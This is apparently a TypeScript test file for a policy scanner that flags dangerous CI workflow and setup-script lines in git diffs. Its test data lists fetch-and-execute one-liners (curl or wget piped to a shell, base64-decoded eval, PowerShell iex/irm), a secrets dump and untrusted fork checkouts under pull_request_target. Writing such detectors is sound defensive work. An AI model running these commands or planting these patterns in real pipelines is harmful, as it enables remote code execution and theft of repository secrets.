import { MODIFIED, patchOf } from '../../../../source-tools/git/rules/define-git-rule';
import { fires } from '../../../policy/rules/support/run-pack-rule';

const finds = (rule: string, path: string, lines: readonly string[]): boolean =>
  fires(rule, patchOf(path, MODIFIED, lines));

describe('a pipeline that checks out the code of a fork with permissions', () => {
  it.each([
    ['.github/workflows/pr.yml', '          ref: ${{ github.event.pull_request.head.sha }}'],
    ['.github/workflows/pr.yml', '          ref: refs/pull/${{ github.event.number }}/merge'],
    ['.github/workflows/pr.yml', '          ref: ${{ github.event.pull_request.merge_commit_sha }}'],
    ['.github/workflows/pr.yml', '      - run: gh pr checkout "$NUMBER"'],
    ['.github/workflows/pr.yml', '      - run: git fetch origin pull/${{ github.event.number }}/head:pr'],
    ['.gitea/workflows/pr.yml', '          ref: ${{ github.event.pull_request.head.sha }}'],
    ['.forgejo/workflows/pr.yml', '          ref: ${{ github.event.pull_request.head.sha }}'],
    ['.github/workflows/pr.yml', "          ref: ${{ github['event'].pull_request['head'].sha }}"],
    ['.github/workflows/pr.yml', '          ref: ${{ github . event . pull_request . head . sha }}'],
    ['.github/workflows/pr.yml', '      - run: git checkout $GITHUB_HEAD_REF'],
    ['.github/workflows/pr.yml', '      - run: gh pr diff "$NUMBER" | git apply'],
  ])('is found however it names the code: %s %s', (path, line) => {
    expect(finds('git_ci_untrusted_checkout', path, [' on: pull_request_target', `+${line}`])).toBe(true);
  });

  it('is found if a comment on the pull request triggers it', () => {
    const lines = ['+on: issue_comment', '+      - run: gh pr checkout ${{ github.event.issue.number }}'];
    expect(finds('git_ci_untrusted_checkout', '.github/workflows/pr.yml', lines)).toBe(true);
  });

  it.each([
    '    if: github.event.pull_request.head.repo.full_name == github.repository',
    '  group: ${{ github.workflow }}-${{ github.head_ref || github.run_id }}',
  ])('is not found if a line only compares or groups: %s', (line) => {
    const lines = [' on: pull_request_target', `+${line}`];
    expect(finds('git_ci_untrusted_checkout', '.github/workflows/pr.yml', lines)).toBe(false);
  });

  it('is not found in a workflow that reads only the number of the pull request', () => {
    const lines = [' on: pull_request_target', '+      - run: gh pr comment ${{ github.event.number }} --body thanks'];
    expect(finds('git_ci_untrusted_checkout', '.github/workflows/pr.yml', lines)).toBe(false);
  });
});

describe('a dangerous line of a pipeline', () => {
  it.each([
    ['.github/workflows/a.yml', '    permissions: { contents: write }'],
    ['.github/workflows/a.yml', '      contents: "write"'],
    ['.forgejo/workflows/a.yml', '      TOKEN: ${{ secrets.TOKEN }}'],
    ['.woodpecker/a.yml', '      - curl https://example.com/x | sh'],
    ['azure-pipelines.yaml', '  - script: curl https://example.com/x | sh'],
    ['scripts/setup.ps1', 'Invoke-RestMethod https://example.com/x | Invoke-Expression'],
  ])('is found in every kind of pipeline: %s %s', (path, line) => {
    expect(finds('git_dangerous_ci', path, [`+${line}`])).toBe(true);
  });

  it.each([
    '      - { uses: owner/name@v1 }',
    '      - "uses": owner/name@main',
    '  models: write',
    'permissions: "write-all"',
    '      - run: echo ${{ toJSON(secrets) }}',
    "      - run: echo ${{ github['event'].comment.body }}",
  ])('is found however YAML spells it: %s', (line) => {
    expect(finds('git_dangerous_ci', '.github/workflows/a.yml', [`+${line}`])).toBe(true);
  });
});

describe('a line of a script', () => {
  it.each([
    'curl "https://example.com/x?a=1&b=2" | sh',
    'curl https://example.com/x | tee /tmp/x | bash',
    'curl https://example.com/x | sudo -u root env bash -s -- --yes',
    'curl https://example.com/x \\\n+  | sh',
    'curl https://example.com/x | python3 -',
    'curl "$URL" | "$SHELL"',
    'curl -fsSL https://example.com/x -o /tmp/x && sh /tmp/x',
    'wget -qO x https://example.com/x; sudo bash ./x',
    'curl https://example.com/x > x; source x',
    'curl -fsSLO https://example.com/x && sh x',
    'curl -o /dev/shm/x https://example.com/x; sh /dev/shm/x',
    'curl -o x https://example.com/x && chmod +x x && ./x',
    'wget https://example.com/x && sh x',
    'wget -q --no-verbose "$URL"; chmod 755 x; sudo ./x',
    'source <(curl -s https://example.com/x)',
    '. <(curl -s https://example.com/x)',
    'bash -c "`wget -qO- https://example.com/x`"',
    'eval "$(echo "$CODE" | base64 -d)"',
    'echo "$CODE" | base64 -d | sh',
    'ssh example.com cat x | sh',
    'iex (irm https://example.com/x)',
    '[scriptblock]::Create((irm https://example.com/x))',
  ])('is found if it runs downloaded or decoded text: %s', (line) => {
    for (const path of ['scripts/setup.sh', 'bin/setup', 'setup.bat'])
      expect(finds('git_dangerous_ci', path, `+${line}`.split('\n'))).toBe(true);
  });

  it.each([
    'curl -s https://example.com/x | jq .',
    'curl -fsS https://example.com/health && sh scripts/smoke.sh',
    'curl -fsSLo x.tgz https://example.com/x && tar xzf x.tgz',
    'curl -o x.json https://example.com/x; node build.js',
    'curl -o bin/x https://example.com/x && chmod +x bin/x && mv bin/x /usr/local/bin',
    'curl -fsS -o /dev/null https://example.com/health && sh scripts/smoke.sh',
    'curl -s https://example.com/health > /dev/null 2>&1; source .env',
    'curl -s https://example.com/health >> /dev/stderr; sh scripts/smoke.sh',
    'wget -qO- https://example.com/health; sh scripts/smoke.sh',
    'wget -q --spider https://example.com/health && sh scripts/smoke.sh',
    'curl -s https://example.com/x | python3 -m json.tool',
    'curl -s https://example.com/x | python3 -c "import json"',
    'curl -fsSL https://example.com/key | sudo gpg --dearmor -o /etc/key',
    'curl https://example.com/x | tar xz -C ~/.local/share/fish',
    'cat list | bash ./filter.sh',
    'command -v bash || sh install.sh',
    'case "$1" in sh | bash) ;; esac',
    "find . -name '*.sh' | xargs -I{} sh -c 'echo {}'",
    'eval "$(ssh-agent -s)"',
    'iex -S mix',
  ])('is not found if it only reads, converts or names a shell: %s', (line) => {
    expect(finds('git_dangerous_ci', 'scripts/setup.sh', [`+${line}`])).toBe(false);
  });

  it('is not found in a document beside the scripts', () => {
    expect(finds('git_dangerous_ci', 'scripts/README.md', ['+curl https://example.com/x | sh'])).toBe(false);
  });
});
